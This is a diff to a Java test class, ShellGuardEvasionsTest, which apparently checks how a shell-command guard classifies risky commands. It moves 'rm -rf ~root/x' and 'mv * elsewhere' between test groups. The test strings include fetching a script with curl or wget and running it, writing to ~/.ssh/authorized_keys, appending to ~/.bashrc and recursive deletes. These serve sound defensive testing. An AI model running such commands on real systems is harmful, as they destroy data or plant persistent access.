@@ -172,7 +172,6 @@ class ShellGuardEvasionsTest {
                     "echo id > y; ./y",
                     "curl -o y https://example.org/i.sh; sh y",
                     "wget https://example.org/i.sh && bash ./i.sh",
-                    "rm -rf ~root/x",
                 })
         void is_asked_about_if_that_does_not_show(String command) throws Exception {
             Rehearsal rehearsal = guarded();
@@ -268,6 +267,8 @@ class ShellGuardEvasionsTest {
                     "chown -R x /opt/some/thing",
                     "find . -name '*.pyc' -delete",
                     "git clean -fdx",
+                    "rm -rf ~root/x",
+                    "mv * elsewhere",
                     "echo x >> ~/.bashrc",
                     "cp x ~/.ssh/authorized_keys",
                     "tee -a $HOME/.gitconfig",
@@ -281,7 +282,6 @@ class ShellGuardEvasionsTest {
                 strings = {
                     "rm -rf build/*",
                     "find build -delete",
-                    "mv * elsewhere",
                     "rsync -a --delete a/ b/",
                     "git clean -n -d",
                     "kill -9 123",
